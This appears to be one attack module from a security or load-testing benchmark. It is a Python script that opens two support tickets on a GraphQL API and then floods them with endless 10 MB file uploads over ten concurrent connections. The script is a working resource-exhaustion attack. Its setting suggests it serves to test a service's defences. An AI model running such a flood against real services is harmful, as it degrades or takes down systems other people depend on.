"""A subscriber attaches files of 10 MB to tickets of its own, on ten connections."""

import asyncio
import json
from typing import Any

import httpx

from bench.attacks.target import Target

OPEN = "mutation($i: OpenTicketInput!) { openTicket(input: $i) { ticket { id } errors { code } } }"
ATTACH = "mutation($i: AttachToTicketInput!) { attachToTicket(input: $i) { ticket { id } errors { code } } }"
FILE = b"\x89PNG\r\n\x1a\n" + bytes(9_999_000)


async def attack(target: Target) -> None:
    token = target.subscribers[-1]  # one that no other attack uses
    headers = {"authorization": f"Bearer {token}", "graphql-require-preflight": "1"}
    async with target.client() as client:

        async def opened() -> str | None:
            answer = await target.send(client, OPEN, token, {"i": {"subject": "files"}})
            payload: dict[str, Any] | None = (answer.json().get("data") or {}).get("openTicket") if answer else None
            return payload["ticket"]["id"] if payload and payload["ticket"] else None

        async def repeat(ticket: str | None) -> None:
            operations = {"query": ATTACH, "variables": {"i": {"id": ticket or "tic_none", "file": None}}}
            form = {"operations": json.dumps(operations), "map": '{"0": ["variables.i.file"]}'}
            while True:
                try:
                    await client.post("/graphql", data=form, files={"0": ("a.png", FILE, "image/png")}, headers=headers)
                except httpx.HTTPError:
                    await asyncio.sleep(0.01)

        tickets = [await opened() for _ in range(2)]
        await asyncio.gather(*(repeat(tickets[n % 2]) for n in range(10)))
